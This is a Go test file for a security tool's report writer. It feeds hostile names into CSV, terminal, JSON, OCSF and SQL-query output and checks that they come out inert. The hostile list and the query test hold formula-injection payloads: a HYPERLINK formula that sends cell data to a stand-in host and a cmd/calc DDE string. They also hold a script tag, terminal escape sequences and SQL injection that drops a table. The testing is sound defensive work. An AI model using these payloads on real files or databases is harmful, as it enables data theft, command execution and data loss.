package report_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"midwatch/analyzer"
	"midwatch/analyzer/report"
)

// hostile are names that logs may hold: formulas, what moves a cursor, what turns
// the direction of writing, ends of lines and of cells, and no text at all.
var hostile = []string{
	`=HYPERLINK("http://x.example/?"&A1,"click")`, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "|calc", "\t=1+1", "\r=1+1", "\n=1+1",
	"＝1+1", "＠SUM(1)", "\x1b[2J\x1b]0;title\x07", "ana\u202egnp.exe", "ana\u200bben", "a\x00b", "\xff\xfe=1", "a,b;c\"d'e", "x\r\ny",
	"<script>alert(1)</script>", "ana\u0085ben", strings.Repeat("é", 40_000),
}

// finding is one that has a text everywhere a log can put one.
func finding(text string) analyzer.Finding {
	day := time.Date(2026, time.July, 21, 0, 0, 0, 0, time.UTC)
	a := analyzer.Assessment{
		Identity: text, Name: text, Family: analyzer.Personal, Kind: analyzer.Human, Day: day, Rank: 1, Score: -0.5, Raw: 9, Expected: 0.25, Listed: true,
		Hypothesis: analyzer.Thief, HypothesisNats: 9, RunnerUp: analyzer.Insider, RunnerUpNats: 1,
		Group:    []analyzer.Member{{Identity: text, Name: text, NewRepositories: []analyzer.NewRepository{{Repository: text}}}},
		LinkedTo: []analyzer.Link{{Identity: text, Through: analyzer.SharedByNetwork, Value: text}},
		Session: analyzer.Session{
			Network: text, ASN: text, NetworkKind: text, Agent: text, Credential: text, AccessType: text, Country: text,
			First: day.Add(time.Hour), Last: day.Add(2 * time.Hour),
		},
		NewRepositories: []analyzer.NewRepository{{Repository: text, Surprise: -1.5}},
		NotAssessable:   []string{text}, Sessions: 1,
	}
	return analyzer.Finding{ID: "mw-20260721-00000000", Campaign: "mw-20260721-00000000", Status: analyzer.StatusNew, First: day, Last: day, Nights: 1, Assessment: a}
}

func night(texts ...string) report.Night {
	n := report.Night{Version: "test", Coverage: "Coverage of 2026-07-21 UTC: no gap known"}
	n.Night = time.Date(2026, time.July, 21, 0, 0, 0, 0, time.UTC)
	for _, text := range texts {
		f := finding(text)
		n.Findings = append(n.Findings, f)
		n.Assessments = append(n.Assessments, f.Assessment)
	}
	return n
}

// formula is what a spreadsheet would take for one; a number is none.
func formula(cell string) bool {
	if _, err := strconv.ParseFloat(cell, 64); err == nil {
		return false
	}
	first, _ := utf8.DecodeRuneInString(cell)
	return cell != "" && strings.ContainsRune("=+-@|\t\r\n＝＋－＠", first)
}

// inert fails for a text that could move a cursor or hide something.
func inert(t *testing.T, what, text string) {
	t.Helper()
	if !utf8.ValidString(text) {
		t.Errorf("%s is no text: %q", what, text)
	}
	for _, r := range text {
		if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) {
			t.Errorf("%s holds %U: %.80q", what, r, text)
			return
		}
	}
}

func TestHostileNamesInCSV(t *testing.T) {
	t.Parallel()
	for _, text := range hostile {
		n := night(text)
		for name, write := range map[string]func(*bytes.Buffer) error{
			"findings.csv":      func(b *bytes.Buffer) error { return report.Findings(b, n) },
			"findings_full.csv": func(b *bytes.Buffer) error { return report.FullFindings(b, n) },
			"finding_repos.csv": func(b *bytes.Buffer) error { return report.FindingRepositories(b, n) },
			"ranking": func(b *bytes.Buffer) error {
				r, err := report.NewRanking(b, "csv")
				if err != nil {
					return err
				}
				if err := r.Write(n.Scored, true); err != nil {
					return err
				}
				return r.Close()
			},
			"table as csv": func(b *bytes.Buffer) error { return report.Table(b, "csv", []string{"a"}, [][]string{{text}}) },
		} {
			var out bytes.Buffer
			if err := write(&out); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&out).ReadAll()
			if err != nil {
				t.Fatalf("%s of %.40q is no CSV: %v", name, text, err)
			}
			want := 2
			if name == "finding_repos.csv" {
				want = 3 // its own, and that of the one listed with it
			}
			if len(rows) != want {
				t.Errorf("%s of %.40q has %d rows, want %d", name, text, len(rows), want)
			}
			for _, row := range rows {
				for i, cell := range row {
					if formula(cell) {
						t.Errorf("%s of %.40q: column %d is a formula: %.80q", name, text, i, cell)
					}
					if strings.Contains(cell, "\n") {
						t.Errorf("%s of %.40q: column %d has a line end: %.80q", name, text, i, cell)
					}
					if len(cell) > 32_767 { // what a cell of a spreadsheet holds
						t.Errorf("%s of %.40q: column %d has %d bytes", name, text, i, len(cell))
					}
					inert(t, name, cell)
				}
			}
		}
	}
}

func TestHostileNamesOnATerminal(t *testing.T) {
	t.Parallel()
	for _, text := range hostile {
		var out bytes.Buffer
		n := night(text)
		if err := report.Print(&out, n, "table"); err != nil {
			t.Fatal(err)
		}
		if err := report.Explain(&out, n.Findings); err != nil {
			t.Fatal(err)
		}
		inert(t, "the terminal", out.String())
		if err := report.Table(&out, "table", []string{"a"}, [][]string{{text}}); err != nil {
			t.Fatal(err)
		}
		inert(t, "a table", out.String())
	}
}

type errorText string

func (e errorText) Error() string { return string(e) }

// JSON keeps the text as it is, whole and escaped, one object a line.
func TestHostileNamesInJSON(t *testing.T) {
	t.Parallel()
	for _, text := range hostile {
		if !utf8.ValidString(text) {
			continue
		}
		var out bytes.Buffer
		if err := report.JSONLines(&out, night(text)); err != nil {
			t.Fatal(err)
		}
		if bytes.Count(out.Bytes(), []byte("\n")) != 1 || bytes.ContainsAny(out.Bytes(), "\x1b\x00\x07") {
			t.Errorf("%.40q is not one line of JSON", text)
		}
		var got struct {
			Finding struct{ Assessment struct{ Identity string } } `json:"finding"`
		}
		if err := json.Unmarshal(out.Bytes(), &got); err != nil || got.Finding.Assessment.Identity != text {
			t.Errorf("%.40q became %.40q (%v)", text, got.Finding.Assessment.Identity, err)
		}
	}
}

// OCSF keeps the text too, in every place; a line is an event.
func TestHostileNamesInOCSF(t *testing.T) {
	t.Parallel()
	for _, text := range hostile {
		if !utf8.ValidString(text) {
			continue
		}
		var out bytes.Buffer
		if err := report.OCSF(&out, night(text), report.OCSF14); err != nil {
			t.Fatal(err)
		}
		if bytes.Count(out.Bytes(), []byte("\n")) != 1 || bytes.Contains(out.Bytes(), []byte("<script>")) {
			t.Errorf("%.40q is not one line of JSON", text)
		}
		inert(t, "OCSF", out.String())
		var got struct {
			Evidences []struct {
				Actor struct{ User struct{ Name, UID string } }
				Data  struct{ Network, Client string }
			}
			Resources   []struct{ UID string }
			Observables []struct{ Value string }
		}
		if err := json.Unmarshal(out.Bytes(), &got); err != nil {
			t.Fatal(err)
		}
		first := got.Evidences[0]
		for _, same := range []string{first.Actor.User.Name, first.Actor.User.UID, first.Data.Network, first.Data.Client, got.Resources[0].UID, got.Observables[0].Value} {
			if same != text {
				t.Errorf("%.40q became %.40q", text, same)
			}
		}
	}
}

// The query that is shown for a finding must hold its identity as a text and
// nothing else.
func TestHostileNamesInQueries(t *testing.T) {
	t.Parallel()
	quoted := regexp.MustCompile(`identity = '((?:[^']|'')*)'( AND family = 'personal'.*)?$`)
	for _, text := range []string{"x' OR '1'='1", "'; DROP TABLE event_fact; --", "''", `\'`} {
		for _, q := range report.Queries(finding(text).Assessment) {
			m := quoted.FindStringSubmatch(q.SQL)
			if m == nil || strings.ReplaceAll(m[1], "''", "'") != text {
				t.Errorf("%q in %s", text, q.SQL)
			}
		}
	}
}

func TestCell(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"": "", "ana": "ana", "=1": "'=1", "-": "'-", "@x": "'@x", "|x": "'|x", "＋1": "'＋1", "a=1": "a=1", "'=1": "'=1",
		"é": "é", "a\tb": `a\tb`, "\x1b[m": `\x1b[m`, "\xff": `\xff`, "a\u202eb": `a\u202eb`, "\u00a0": `\u00a0`,
	} {
		if got := report.Cell(text); got != want {
			t.Errorf("Cell(%q) = %q, want %q", text, got, want)
		}
	}
	long := report.Cell(strings.Repeat("é", 20_000))
	if len(long) > 32_010 || !utf8.ValidString(long) || !strings.HasSuffix(long, "…") {
		t.Errorf("%d bytes, valid %v", len(long), utf8.ValidString(long))
	}
}
